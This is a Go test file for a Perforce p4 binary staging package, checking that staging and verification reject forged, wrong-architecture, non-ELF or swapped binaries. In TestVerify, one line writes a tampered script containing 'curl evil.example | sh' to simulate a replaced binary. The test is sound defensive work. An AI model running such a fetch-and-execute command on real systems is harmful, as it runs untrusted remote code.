package p4layer

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

const (
	testIdent   = "P4/LINUX26AARCH64/2023.2/2519561"
	testVersion = "Rev. " + testIdent + " (2023/11/20)"
)

// buildFor builds a tiny Go program for goarch that answers -V the way the
// p4 client does (support/ident.cc), from an "@(#)"-marked ident and a date
// stored apart (client/clientmain.cc), so that the binary, like a real one,
// holds no "Rev. P4/…" line: a real ELF executable of that architecture,
// standing in for a p4 client. With ident "" it prints "hello".
func buildFor(t *testing.T, goarch, ident string) string {
	t.Helper()
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module fake\n\ngo 1.22\n"), 0o644)
	src := "package main\n\nimport \"os\"\n\nfunc main() { os.Stdout.WriteString(\"hello\\n\") }\n"
	if ident != "" {
		src = "package main\n\nimport \"os\"\n\nvar ident, date = \"@(#)" + ident + "\", \"2023/11/20\"\n\n" +
			"func main() { os.Stdout.WriteString(\"Rev. \" + ident[4:] + \" (\" + date + \").\\n\") }\n"
	}
	os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644)
	out := filepath.Join(dir, "p4")
	// go test puts its own GOROOT/bin first on PATH, so "go" is the toolchain running this test.
	cmd := exec.Command("go", "build", "-o", out, ".")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GOOS=linux", "GOARCH="+goarch, "CGO_ENABLED=0", "GOFLAGS=")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building a test ELF: %v\n%s", err, b)
	}
	return out
}

// TestVersionOfABinaryThatCannotRunHere: a p4 for another architecture
// (the usual case: an arm64 client staged on an x86_64 machine) is
// versioned from the ident string it carries, as "Rev. P4/…" without the
// date "p4 -V" would add.
func TestVersionOfABinaryThatCannotRunHere(t *testing.T) {
	b, err := os.ReadFile(buildFor(t, "arm64", testIdent))
	if err != nil {
		t.Fatal(err)
	}
	foreign := filepath.Join(t.TempDir(), "p4")
	os.WriteFile(foreign, b, 0o644) // not executable: exec fails as it would for another CPU
	if v, err := versionOf(foreign); err != nil || v != "Rev. "+testIdent {
		t.Errorf("versionOf = %q, %v; want %q", v, err, "Rev. "+testIdent)
	}
}

func sum(t *testing.T, path string) string {
	t.Helper()
	s, err := FileSHA256(path)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestStage(t *testing.T) {
	arm := buildFor(t, "arm64", testIdent)
	script := filepath.Join(t.TempDir(), "p4")
	os.WriteFile(script, []byte("#!/bin/sh\necho p4\n"), 0o755)
	noVersion := buildFor(t, "arm64", "")

	out := t.TempDir()
	rec, err := Stage(arm, "arm64", sum(t, arm), out)
	if err != nil {
		t.Fatalf("arm64 ELF for arm64: %v", err)
	}
	st, err := os.Stat(filepath.Join(out, "bin", "p4"))
	if err != nil || st.Mode().Perm() != 0o755 {
		t.Fatalf("staged binary: %v %v", st, err)
	}
	if (rec.Version != testVersion && rec.Version != "Rev. "+testIdent) || rec.SHA256 != sum(t, arm) || rec.Arch != "arm64" {
		t.Errorf("record %+v", rec)
	}
	if _, err := Verify(out, sum(t, arm)); err != nil {
		t.Errorf("verify the staged layer: %v", err)
	}
	for _, tt := range []struct {
		name, src, arch, sha, want string
	}{
		{"a forged binary (another checksum)", arm, "arm64", strings.Repeat("ab", 32), "not the expected"},
		{"no checksum named", arm, "arm64", "", "P4_SHA256"},
		{"wrong architecture", arm, "x86_64", sum(t, arm), "built for EM_AARCH64"},
		{"not ELF", script, "arm64", sum(t, script), "not an ELF file"},
		{"not a Perforce client", noVersion, "arm64", sum(t, noVersion), "not a Perforce client"},
		{"no binary named", "", "arm64", sum(t, arm), "make p4-layer P4="},
		{"unknown arch", arm, "mips", sum(t, arm), "unknown architecture"},
	} {
		dir := t.TempDir()
		_, err := Stage(tt.src, tt.arch, tt.sha, dir)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: err = %v, want %q", tt.name, err, tt.want)
		}
		if _, statErr := os.Stat(filepath.Join(dir, "bin", "p4")); statErr == nil {
			t.Errorf("%s: a refused binary was staged", tt.name)
		}
	}
}

// TestVerify: synth refuses a layer whose record names another checksum
// than the environment's, or whose binary was swapped after the build.
func TestVerify(t *testing.T) {
	arm := buildFor(t, "arm64", testIdent)
	good := sum(t, arm)
	out := t.TempDir()
	if _, err := Stage(arm, "arm64", good, out); err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(out, strings.Repeat("cd", 32)); err == nil || !strings.Contains(err.Error(), "not the configured") {
		t.Errorf("another configured checksum: %v", err)
	}
	if _, err := Verify(t.TempDir(), good); err == nil || !strings.Contains(err.Error(), "no p4-layer.json") {
		t.Errorf("no record: %v", err)
	}
	os.WriteFile(filepath.Join(out, "bin", "p4"), []byte("#!/bin/sh\ncurl evil.example | sh\n"), 0o755)
	if _, err := Verify(out, good); err == nil || !strings.Contains(err.Error(), "replaced after the build") {
		t.Errorf("a swapped binary: %v", err)
	}
}
